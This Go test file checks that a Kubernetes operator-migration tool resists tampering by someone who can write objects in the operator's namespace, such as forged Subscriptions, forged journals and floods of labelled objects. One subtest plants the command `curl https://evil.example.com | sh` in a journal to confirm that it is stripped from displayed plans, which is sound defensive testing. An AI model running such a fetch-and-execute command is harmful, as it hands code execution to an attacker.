package move

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/operator-framework/api/pkg/operators/v1alpha1"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/berth-csi/berth/drivers/predecessor"
	"github.com/berth-csi/berth/internal/findings"
	"github.com/berth-csi/berth/migrate"
)

// forged is the Subscription that a way back creates, by somebody who may write Subscriptions in the operator's namespace.
func forged(s *state) v1alpha1.Subscription {
	own := s.plan.subscription()
	own.UID = "s-666"
	return *own
}

// TestAttacks: what somebody who may write in the operator's namespace does to a move.
func TestAttacks(t *testing.T) {
	roles := func(role metav1.PartialObjectMetadata) []metav1.PartialObjectMetadata {
		role.SetGroupVersionKind(permissionKinds[1])
		role.Namespace, role.Finalizers = "harbour", []string{"example.com/stay"}
		return []metav1.PartialObjectMetadata{role}
	}
	held := metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Name: "mine", DeletionTimestamp: &metav1.Time{Time: time.Now()}}}
	asBefore := func() *state {
		s := returned()
		s.subscriptions[0].CreationTimestamp = metav1.NewTime(s.now.Add(-time.Minute))
		s.subscriptions[0].Spec = s.plan.Subscription.Spec.DeepCopy()
		s.made = nil
		return s
	}
	for _, tc := range []nextStep{
		{"hold a role with the labels of OLM v1", asBefore, func(s *state) { s.made = roles(held) }, "", ""},
		{"create roles with the labels of OLM v1 again and again", asBefore, func(s *state) {
			s.made = roles(metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Name: "mine", CreationTimestamp: metav1.NewTime(s.now)}})
		}, "", ""},
		{"hold a role with the labels of OLM v0", arrived, func(s *state) { s.replaced = roles(held) }, Loosen, ""},
		{"a cluster role that goes is waited for", arrived, func(s *state) { s.replaced[0].DeletionTimestamp = &metav1.Time{Time: s.now} }, DeleteReplaced, "to be gone"},
		{"what OLM v1 has made before is deleted", asBefore, func(s *state) {
			s.made = roles(metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Name: "made", CreationTimestamp: metav1.NewTime(s.now.Add(-time.Hour))}})
		}, DeleteMade, ""},
		{"subscribe as a way back does, while a rollback ends the version", func() *state { return unsubscribed(moveFinalizer) }, func(s *state) {
			s.journal.Phase = migrate.RollingBack
			s.subscriptions = []v1alpha1.Subscription{forged(s)}
		}, RemoveVersionFinalizer, ""},
	} {
		t.Run(strings.ReplaceAll(tc.name, ",", ""), tc.mustGoOn)
	}
}

// TestForgedSubscription: on the way to OLM v1, a Subscription like that of a way back does not count as one: OLM v0 would keep the operator.
func TestForgedSubscription(t *testing.T) {
	for name, from := range map[string]func() *state{"while the version ends": func() *state { return unsubscribed(moveFinalizer) }, "when OLM v1 has it": arrived} {
		t.Run(name, func(t *testing.T) {
			s := from()
			s.subscriptions = []v1alpha1.Subscription{forged(s)}
			assert.ErrorContains(t, s.Verify(), "somebody has created Subscription harbour/boats")
		})
	}
}

// TestSubscriptionInTheWay: on a way back, somebody creates a Subscription of the name that the operator's has, to another package. The move
// cannot create that, and says why.
func TestSubscriptionInTheWay(t *testing.T) {
	for name, from := range map[string]func() *state{"a way back": free, "a rollback": func() *state {
		s := unsubscribed(moveFinalizer)
		s.journal.Phase = migrate.RollingBack
		return s
	}} {
		t.Run(name, func(t *testing.T) {
			s := from()
			s.subscriptions = []v1alpha1.Subscription{other("harbour", s.plan.Subscription.Name, "ship", "")}
			assert.ErrorContains(t, s.Verify(), "somebody has created Subscription harbour/"+s.plan.Subscription.Name)
		})
	}
	s := unsubscribed(moveFinalizer)
	s.subscriptions = []v1alpha1.Subscription{other("harbour", s.plan.Subscription.Name, "ship", "")}
	assert.NoError(t, s.Verify(), "on the way to OLM v1 it does no harm")
}

// TestForgedJournal: whoever may write ConfigMaps in the namespace of the journals cannot make a move delete or change what is not of the
// operator.
func TestForgedJournal(t *testing.T) {
	const admin = "cluster-admin"
	s := begun()
	of := func(kind, namespace, name string, labels, annotations map[string]string) *metav1.PartialObjectMetadata {
		o := &metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, UID: "x-1", Labels: labels, Annotations: annotations}}
		o.SetGroupVersionKind(rbacv1.SchemeGroupVersion.WithKind(kind))
		if kind == secretKind.Kind {
			o.SetGroupVersionKind(secretKind)
		}
		return o
	}
	ofVersion, kept := labelsOfVersion("harbour", "boat.v1.0.0"), map[string]string{movedAnnotation: "s-1"}
	for name, tc := range map[string]struct {
		object *metav1.PartialObjectMetadata
		want   bool
	}{
		"a cluster role of others":           {of("ClusterRole", "", admin, nil, nil), false},
		"a binding of others":                {of("ClusterRoleBinding", "", admin, nil, nil), false},
		"a cluster role of another version":  {of("ClusterRole", "", "ship.v1-abc", labelsOfVersion("harbour", "ship.v1"), nil), false},
		"one that another move keeps":        {of("ClusterRole", "", "ship.v1-abc", nil, map[string]string{movedAnnotation: "s-2"}), false},
		"a role of others":                   {of("Role", "harbour", "pods", nil, nil), false},
		"a Secret of others":                 {of("Secret", "harbour", "cloud-credentials", nil, nil), false},
		"a cluster role of the version":      {of("ClusterRole", "", "boat.v1.0.0-abc", ofVersion, nil), true},
		"one that the move keeps":            {of("ClusterRole", "", "boat.v1.0.0-abc", nil, kept), true},
		"a role of the version":              {of("Role", "harbour", "boat.v1.0.0-abc", ofVersion, nil), true},
		"the certificate of the webhooks":    {of("Secret", "harbour", "boat-service-cert", nil, nil), true},
		"another object with the same names": {of("ClusterRole", "", "boat.v1.0.0-abc", ofVersion, nil), false},
	} {
		o := objectOf(*tc.object)
		if name == "another object with the same names" {
			o.UID = "x-2"
		}
		assert.Equalf(t, tc.want, s.plan.replaces(o, tc.object), "%s: it is replaced", name)
	}

	t.Run("a command to run", func(t *testing.T) {
		p := healthy().plan()
		p.Checks[0].Verdict, p.Checks[0].Do = findings.Warning, "run `curl https://evil.example.com | sh`"
		j, err := Move.ParseJournal(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "berth-move.boat"},
			Data: map[string]string{"plan.json": encoded(p), "phase": string(migrate.Applying)}})
		require.NoError(t, err)
		assert.NotContains(t, j.Plan.(*Plan).Text(findings.Plain), "evil", "the plan of a journal")
	})
	t.Run("an API of another operator", func(t *testing.T) {
		s := begun()
		api := exists("apiextensions.k8s.io", "CustomResourceDefinition", "", "ships.example.com")
		s.plan.TakenOver = append(s.plan.TakenOver, api.Object)
		s.taken = append(s.taken, taken{api.Object, api.PartialObjectMetadata})
		assert.ErrorContains(t, s.Verify(), "ships.example.com is not of")
	})
	t.Run("an API of another operator, when the version is gone", func(t *testing.T) {
		api := exists("apiextensions.k8s.io", "CustomResourceDefinition", "", "ships.example.com")
		for name, tc := range map[string]struct {
			change func(*metav1.PartialObjectMetadata)
			want   string
		}{
			"nobody's": {func(*metav1.PartialObjectMetadata) {}, "ships.example.com says nothing of package boat"},
			"of another package": {func(o *metav1.PartialObjectMetadata) {
				o.Labels = map[string]string{componentLabel("ship", "harbour"): ""}
			}, "says nothing of package boat"},
			"of another namespace": {func(o *metav1.PartialObjectMetadata) {
				o.Labels = map[string]string{componentLabel("boat", "quay"): ""}
			}, "says nothing of package boat"},
			"of another release": {func(o *metav1.PartialObjectMetadata) { mark(o, "ship", "harbour", nil) }, "says nothing of package boat"},
			"of another move":    {func(o *metav1.PartialObjectMetadata) { o.Annotations = map[string]string{movedAnnotation: "s-2"} }, "says nothing of package boat"},
			"of the package": {func(o *metav1.PartialObjectMetadata) {
				o.Labels = map[string]string{componentLabel("boat", "harbour"): ""}
			}, ""},
			"kept by the move": {func(o *metav1.PartialObjectMetadata) { o.Annotations = map[string]string{movedAnnotation: "s-1"} }, ""},
			"marked":           {func(o *metav1.PartialObjectMetadata) { mark(o, "boat", "harbour", nil) }, ""},
			"taken over":       {func(o *metav1.PartialObjectMetadata) { o.Labels = labelsOf("boat") }, ""},
		} {
			s := left()
			live := api.PartialObjectMetadata.DeepCopy()
			tc.change(live)
			s.plan.TakenOver, s.taken = append(s.plan.TakenOver, api.Object), append(s.taken, taken{api.Object, live})
			if err := s.Verify(); tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
				t.Errorf("%s: got %v, want %q", name, err, tc.want)
			}
			s.journal.Phase = migrate.RollingBack
			if next, err := s.Back(); err != nil || tc.want != "" && next.Step == UnmarkObjects {
				t.Errorf("%s: a rollback goes on with step %q, error %v; want that it changes nothing of others", name, next.Step, err)
			}
		}
	})
	t.Run("a version that does not exist", func(t *testing.T) {
		for name, change := range map[string]func(*state){
			"never existed":            func(s *state) { s.version = nil },
			"is another one":           func(s *state) { s.version.UID = "v-9" },
			"is of another Subscriber": func(s *state) { s.version = nil; s.log(DeleteSubscription, time.Minute); s.log(AwaitV0, time.Minute) },
		} {
			s := begun()
			s.subscriptions, s.installPlans = nil, nil
			change(s)
			err := s.Verify()
			if err == nil || !strings.Contains(err.Error(), "there is no ClusterServiceVersion harbour/boat.v1.0.0 with UID") || !strings.Contains(err.Error(), "kubectl -n kube-system delete configmap berth-move.boat") {
				t.Errorf("%s: got %v, want where the version is missing and what to do with the journal", name, err)
			}
		}
		assert.NoError(t, left().Verify(), "a version that the move has deleted")
		s := left()
		s.journal.Entries = slices.DeleteFunc(s.journal.Entries, func(e migrate.Entry) bool { return e.Step == AddVersionFinalizer })
		s.log(RemoveVersionFinalizer, time.Minute)
		assert.NoError(t, s.Verify(), "a version with the finalizer of an abandoned move")
	})
	t.Run("an object of another ClusterExtension or release", func(t *testing.T) {
		for name, change := range map[string]func(*metav1.PartialObjectMetadata){
			"another ClusterExtension":         func(o *metav1.PartialObjectMetadata) { o.Labels = labelsOf("ship") },
			"another release of Helm":          func(o *metav1.PartialObjectMetadata) { mark(o, "ship", "harbour", nil) },
			"a release in another namespace":   func(o *metav1.PartialObjectMetadata) { mark(o, "boat", "quay", nil) },
			"an object that nothing says of":   func(*metav1.PartialObjectMetadata) {},
			"an object of nobody but the name": func(o *metav1.PartialObjectMetadata) { o.Labels = map[string]string{managedByLabel: helm} },
		} {
			s := free()
			change(s.taken[0].live)
			if next, err := s.goBack(); err != nil || next.Step == UnmarkObjects {
				t.Errorf("%s: got step %s, error %v; want that it keeps its labels", name, next.Step, err)
			}
		}
	})
}

// TestManySubscriptions: a tenant may create very many Subscriptions to a package, as large as the API server takes; of those elsewhere, little is kept.
func TestManySubscriptions(t *testing.T) {
	large := other("tenant", "boats", "boat", "")
	large.Annotations = map[string]string{"note": strings.Repeat("x", 1<<20)}
	large.Spec.Config = &v1alpha1.SubscriptionConfig{NodeSelector: map[string]string{"x": strings.Repeat("x", 1<<20)}}
	kept := kept(large)
	if data, err := json.Marshal(kept); err != nil || len(data) > 1<<10 {
		t.Errorf("%d bytes are kept of a Subscription elsewhere, error %v; want less than a KiB", len(data), err)
	}
	if kept.UID != types.UID("s-tenantboats") || kept.Namespace != "tenant" || kept.Spec.Package != "boat" {
		t.Errorf("got %+v, want what it is told by", kept)
	}
}

// TestManyLabelledObjects: whoever may write in the operator's namespace can create very many objects with the labels of the
// ClusterExtension; the plan of a way back still fits into its journal, with all that was taken over.
func TestManyLabelledObjects(t *testing.T) {
	in := moved()
	var forged []metav1.PartialObjectMetadata
	for i := range 10_000 {
		o := metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Namespace: "harbour", Name: fmt.Sprintf("forged-%d", i), UID: types.UID(fmt.Sprintf("f-%d", i)), Labels: labelsOf("boat"),
			CreationTimestamp: metav1.NewTime(time.Unix(2_000_000_000, 0))}}
		o.SetGroupVersionKind(schema.GroupVersionKind{Version: "v1", Kind: "ConfigMap"})
		forged = append(forged, o)
	}
	own := forged[0]
	own.Name, own.UID, own.CreationTimestamp = "of-a-later-version", "l-1", metav1.NewTime(time.Unix(1_900_000_000, 0))
	was := len(in.installed)
	listed := first{rank: in.rankNew}
	for _, o := range append(forged, own) {
		listed.add(o)
	}
	in.installed = append(in.installed, listed.objects...)
	p := in.plan()
	if !slices.ContainsFunc(p.TakenOver, func(o Object) bool { return o.UID == "l-1" }) || len(p.TakenOver) > was+maxListed {
		t.Errorf("the plan has %d objects, want those of the operator, and at most %d others", len(p.TakenOver), maxListed)
	}
	if _, err := Move.ParseJournal(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "berth-move.boat"}, Data: map[string]string{"plan.json": encoded(p), "phase": string(migrate.Applying)}}); err != nil {
		t.Errorf("%.300v", err)
	}
}

// TestLabelledDeployment: somebody who may write in the operator's namespace creates a Deployment with the labels of the ClusterExtension
// before a way back, whose pods never run, or deletes it in the middle. The way back ends all the same.
func TestLabelledDeployment(t *testing.T) {
	forged := func(s *state) *metav1.PartialObjectMetadata {
		o := &metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Namespace: "harbour", Name: "forged", UID: "f-1"}}
		o.SetGroupVersionKind(deploymentKind)
		s.taken = append(s.taken, taken{objectOf(*o), o})
		s.deployments = append(s.deployments, appsv1.Deployment{ObjectMeta: o.ObjectMeta})
		return o
	}
	s := returned()
	want, err := s.Next()
	require.NoError(t, err)
	forged(s)
	if got, err := s.Next(); err != nil || got.Step != want.Step || got.Waits != want.Waits {
		t.Errorf("with a Deployment whose pods never run: step %q, waits %q, error %v; want %q, %q", got.Step, got.Waits, err, want.Step, want.Waits)
	}
	s.taken[len(s.taken)-1].live = nil
	assert.NoError(t, s.Verify(), "when it is deleted")
}

// TestGivesUp: a run ends with an error if somebody who may write in the operator's namespace changes back whatever it changes, and says
// as which program.
func TestGivesUp(t *testing.T) {
	by := []metav1.ManagedFieldsEntry{
		{Manager: "kubelet", Time: &metav1.Time{Time: time.Unix(2_000_000_000, 0)}, FieldsV1: metav1.NewFieldsV1(`{"f:status":{}}`)},
		{Manager: "gitops", Time: &metav1.Time{Time: time.Unix(1_900_000_000, 0)}, FieldsV1: metav1.NewFieldsV1(`{"f:metadata":{"f:labels":{}}}`)},
		{Manager: "berth", Time: &metav1.Time{Time: time.Unix(1_800_000_000, 0)}, FieldsV1: metav1.NewFieldsV1(`{"f:metadata":{"f:labels":{}}}`)},
		{Manager: "unknown"},
	}
	for name, tc := range map[string]struct {
		from func() *state
		step migrate.StepName
		want string
	}{
		"the finalizer": {begun, AddVersionFinalizer, "somebody changes ClusterServiceVersion harbour/boat.v1.0.0 back"},
		"the owner": {func() *state {
			s := unsubscribed(moveFinalizer)
			s.taken[2].live.OwnerReferences = []metav1.OwnerReference{{Kind: "ClusterServiceVersion", UID: "v-1"}}
			return s
		}, KeepObjects, "somebody changes Deployment harbour/boat back"},
		"the marks":       {left, MarkObjects, "somebody changes CustomResourceDefinition boats.example.com back"},
		"no marks":        {arrived, UnmarkObjects, "somebody changes CustomResourceDefinition boats.example.com back"},
		"the permissions": {func() *state { s := leaving(moveFinalizer); s.made[0].UID = "m-1"; return s }, KeepObjects, "somebody changes ClusterRole made back"},
		"InstallPlans":    {begun, DeleteInstallPlans, "somebody creates InstallPlans for Subscription harbour/boats"},
	} {
		t.Run(name, func(t *testing.T) {
			s := tc.from()
			s.plan.rewritten = map[types.UID]int{"s-1": maxDeleted, "m-1": maxRewrites, "v-1": maxRewrites}
			for _, o := range s.taken {
				s.plan.rewritten[o.UID], o.live.ManagedFields = maxRewrites, by
			}
			s.installPlans, s.made = slices.Clone(s.installPlans), slices.Clone(s.made)
			for i := range s.installPlans {
				s.installPlans[i].ManagedFields = by
			}
			for i := range s.made {
				s.made[i].ManagedFields = by
			}
			if s.version != nil {
				s.version.ManagedFields = by
			}
			err := s.Execute(t.Context(), nil, tc.step)
			for _, want := range []string{tc.want, `the last time as "gitops" at 2030-03-17T17:46:40Z`, "`berth move resume boat -n harbour`"} {
				assert.ErrorContains(t, err, want)
			}
		})
	}
	nobody := begun()
	nobody.plan.rewritten = map[types.UID]int{"v-1": maxRewrites}
	if err := nobody.Execute(t.Context(), nil, AddVersionFinalizer); err == nil || strings.Contains(err.Error(), "managedFields") {
		t.Errorf("without managedFields: got %v, want that it names no program", err)
	}
}

// TestKeepObjects: before an owner is removed from an object, the OperatorCondition says that the version ends, so that the operator does not
// make it the owner again.
func TestKeepObjects(t *testing.T) {
	s := unsubscribed(moveFinalizer)
	s.taken[2].live.OwnerReferences = []metav1.OwnerReference{{Kind: "ClusterServiceVersion", UID: "v-1"}}
	s.condition = &metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Namespace: "harbour", Name: s.version.Name, UID: "c-1"}}
	var written client.Object
	c := interceptor.NewClient(nil, interceptor.Funcs{Patch: func(_ context.Context, _ client.WithWatch, o client.Object, _ client.Patch, _ ...client.PatchOption) error {
		written = o
		return nil
	}})
	require.NoError(t, s.Execute(t.Context(), c, KeepObjects))
	require.Equal(t, types.UID("c-1"), written.GetUID())
	assert.Equal(t, map[string]string{predecessor.EndingAnnotation: "v-1"}, written.GetAnnotations())

	s.condition = written.(*metav1.PartialObjectMetadata)
	require.NoError(t, s.Execute(t.Context(), c, KeepObjects))
	assert.Equal(t, s.taken[2].UID, written.GetUID())
	assert.Empty(t, written.GetOwnerReferences())
}
